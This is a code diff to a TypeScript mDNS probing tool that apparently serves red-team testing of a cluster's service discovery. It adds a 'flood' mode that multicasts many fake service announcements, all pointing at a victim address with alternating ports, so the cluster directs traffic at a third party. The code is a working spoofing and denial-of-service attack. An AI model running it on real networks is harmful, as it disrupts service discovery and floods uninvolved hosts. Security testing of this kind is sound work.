@@ -8,6 +8,10 @@
 //   sniff: listen on the group and print, as one JSON line, the first response that
 //          holds a record of our service type: every record, TXT entries as strings,
 //          plus the whole packet as hex.
+//   flood: announce many fake instances (distinct names), all pointing at one victim
+//          address, alternating their SRV port between two values on every round, for
+//          a while: the red team's "make the cluster hammer a third party" attack.
+//          Prints `sent N` (packets) when done.
 //   query: send a legacy unicast query (from an ephemeral port, so the answer comes
 //          back by unicast) for our service type from a chosen source address, and
 //          print `answered` or, after waitMs of silence, `silent`.
@@ -59,6 +63,25 @@ export interface QueryArgs {
   waitMs?: number;
 }
 
+/** Arguments of `flood`. */
+export interface FloodArgs {
+  mode: 'flood';
+  /** Source address (bound with port 5353); an address of this host. */
+  from: string;
+  /** Fake instances announced. */
+  instances: number;
+  /** The victim: every fake instance's A record. */
+  victim: string;
+  /** The two SRV ports the instances alternate between, round by round. */
+  ports: [number, number];
+  /** Cluster label in TXT. */
+  cluster: string;
+  /** How long to keep announcing, in ms. */
+  durationMs: number;
+  /** Time between rounds, in ms; default 500. */
+  roundMs?: number;
+}
+
 /** What `sniff` prints. */
 export interface SniffResult {
   from: string;
@@ -103,6 +126,30 @@ async function forge(a: ForgeArgs): Promise<void> {
   }
   sock.close();
   process.stdout.write(`sent ${count}\n`);
+}
+
+async function flood(a: FloodArgs): Promise<void> {
+  const sock = createSocket({ type: 'udp4', reuseAddr: true });
+  await new Promise<void>((resolve, reject) => {
+    sock.once('error', reject);
+    sock.bind(5353, a.from, () => resolve());
+  });
+  sock.setMulticastInterface(a.from);
+  sock.setMulticastTTL(255);
+  const until = Date.now() + a.durationMs;
+  let sent = 0;
+  for (let round = 0; Date.now() < until; round++) {
+    const port = a.ports[round % 2]!;
+    for (let i = 0; i < a.instances; i++) {
+      const id = mdnsIdentity(`fake${i}@flood`, (0xf00000 + i).toString(16), port, a.cluster);
+      const packet = dnsPacket.encode({ type: 'response', flags: 1024, answers: serviceRecords(id, [a.victim], 120) });
+      await new Promise<void>((resolve, reject) => sock.send(packet, 5353, MDNS_GROUP, (err) => (err ? reject(err) : resolve())));
+      sent++;
+    }
+    await new Promise((r) => setTimeout(r, a.roundMs ?? 500));
+  }
+  sock.close();
+  process.stdout.write(`sent ${sent}\n`);
 }
 
 async function sniff(a: SniffArgs): Promise<void> {
@@ -162,11 +209,12 @@ async function query(a: QueryArgs): Promise<void> {
 
 async function main(): Promise<void> {
   guardVirtualHost();
-  const args = JSON.parse(process.argv[2] ?? '{}') as ForgeArgs | SniffArgs | QueryArgs;
+  const args = JSON.parse(process.argv[2] ?? '{}') as ForgeArgs | SniffArgs | QueryArgs | FloodArgs;
   if (args.mode === 'forge') await forge(args);
+  else if (args.mode === 'flood') await flood(args);
   else if (args.mode === 'sniff') await sniff(args);
   else if (args.mode === 'query') await query(args);
-  else throw new Error('usage: mdns-probe.ts \'{"mode":"forge"|"sniff"|"query",...}\'');
+  else throw new Error('usage: mdns-probe.ts \'{"mode":"forge"|"flood"|"sniff"|"query",...}\'');
 }
 
 main().catch((err: unknown) => {
